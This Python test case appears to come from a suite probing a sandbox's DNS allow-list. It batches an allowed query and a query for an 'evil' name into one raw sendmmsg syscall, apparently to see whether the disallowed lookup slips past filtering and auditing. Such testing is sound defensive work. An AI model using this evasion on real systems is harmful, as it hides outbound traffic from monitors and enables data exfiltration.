"""The same by sendmmsg
Sends a harmless question and a telling one in one call.
policy: allowed-names
audit: dnsQuery
proof: arrival
"""
import ctypes
import struct


def attack(at):
    asker, parts, messages = at.udp(), [], b""
    asker.connect((at.RESOLVER, 53))
    for text in (at.query(b"good.test"), at.query(at.evil())):
        content = ctypes.create_string_buffer(text, len(text))
        piece = ctypes.create_string_buffer(struct.pack("PL", ctypes.addressof(content), len(text)))
        parts.append((content, piece))
        messages += struct.pack("PIxxxxPLPLiIxxxxxxxx", 0, 0, ctypes.addressof(piece), 1, 0, 0, 0, 0)[:64]
    return at.syscall(307, asker.fileno(), messages, 2, 0) == 2
